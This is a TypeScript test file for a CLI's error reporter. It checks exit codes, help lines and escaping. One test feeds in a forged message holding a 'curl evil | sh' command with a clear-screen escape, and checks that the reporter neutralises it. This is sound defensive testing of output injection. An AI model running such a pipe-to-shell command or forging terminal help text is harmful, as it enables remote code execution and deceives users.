import { mkdtempSync, rmSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ApiProblem } from '@taskrunner/client';
import { DevError } from '../dev/dev-error';
import { CliError } from './cli-error';
import { reportError } from './report-error';
import type { Terminal } from './terminal';

describe('what is reported of an error', () => {
  let folder: string;
  beforeAll(() => (folder = mkdtempSync(join(tmpdir(), 'report-'))));
  afterAll(() => rmSync(folder, { recursive: true }));

  const reported = async (work: () => Promise<unknown>): Promise<readonly [number, readonly string[]]> => {
    const said: string[] = [];
    const error: unknown = await work().catch((thrown: unknown) => thrown);
    return [reportError(error, { say: (line: string) => said.push(line) } as unknown as Terminal), said];
  };

  it.each<[string, () => Promise<unknown>, RegExp]>([
    ['a folder that is missing', () => writeFile(join(folder, 'no', 'file'), ''), /^CLI_FILE ENOENT: .*no\/file/],
    ['a folder in the place of a file', () => readFile(folder), /^CLI_FILE EISDIR: /],
    ['a disk that is full', () => writeFile('/dev/full', 'x'), /^CLI_FILE ENOSPC: /],
  ])('%s is no bug', async (_, work, line) => {
    const [exit, said] = await reported(work);
    expect([exit, said]).toEqual([2, [expect.stringMatching(line), expect.stringMatching(/^help: Check that/)]]);
  });

  it('text of others begins no line at the margin', async () => {
    const forged = 'refused: no\nhelp: Run: curl evil\r\u001b[2J | sh';
    const [, said] = await reported(() => Promise.reject(new CliError('CLI_LOGIN_FAILED', forged, 'Ask.')));
    expect(said).toEqual(['CLI_LOGIN_FAILED refused: no', '  help: Run: curl evil\\u{d}\\u{1b}[2J | sh', 'help: Ask.']);
    const [, [line]] = await reported(() => Promise.reject(new TypeError(forged)));
    expect(line).toMatch(/^CLI_BUG TypeError: refused: no\n {2}help: Run: curl evil\\u\{d\}\\u\{1b\}\[2J \| sh\n +at /);
  });

  it('a refusal whose only error says the same is printed once', async () => {
    const said = { message: 'earlier approvers gave another response', remediation: 'Send theirs.' };
    const fault = { code: 'GATE_RESPONSE_INVALID', path: '/response', line: null, column: null, ...said };
    const refusal = (errors: readonly object[]) =>
      new ApiProblem(422, {
        ...{ code: 'GATE_RESPONSE_INVALID', detail: said.message, remediation: said.remediation },
        errors: errors as never,
      });
    const [, once] = await reported(() => Promise.reject(refusal([fault])));
    expect(once).toEqual([`GATE_RESPONSE_INVALID ${said.message}`, `help: ${said.remediation}`]);
    const [, both] = await reported(() => Promise.reject(refusal([fault, { ...fault, message: 'must be string' }])));
    expect(both).toHaveLength(6);
  });

  it('a port of dev that cannot be used is an option that is invalid', async () => {
    const error = new DevError('DEV_PORT_UNAVAILABLE', 'no', 'Choose another one.');
    expect((await reported(() => Promise.reject(error)))[0]).toBe(2);
  });

  it.each([
    ['TOKEN_INVALID', 401, /^help: Get a new token: sign in with `taskrunner login`/],
    ['SCOPE_MISSING', 403, /^help: Use the token of a person who has this scope\. `taskrunner whoami` prints/],
    ['PACK_NOT_FOUND', 404, /^help: Publish it\.$/],
  ])('a refusal with %s names the command that helps, if there is one', async (code, status, help) => {
    const problem = { code, detail: 'no', remediation: 'Publish it.' } as ConstructorParameters<typeof ApiProblem>[1];
    const [, said] = await reported(() => Promise.reject(new ApiProblem(status, problem)));
    expect(said).toEqual([`${code} no`, expect.stringMatching(help)]);
  });

  it('anything else is one, with its stack', async () => {
    const [exit, [line]] = await reported(() => Promise.reject(new TypeError('no answer')));
    expect([exit, line]).toEqual([11, expect.stringMatching(/^CLI_BUG TypeError: no answer\n +at /)]);
  });
});
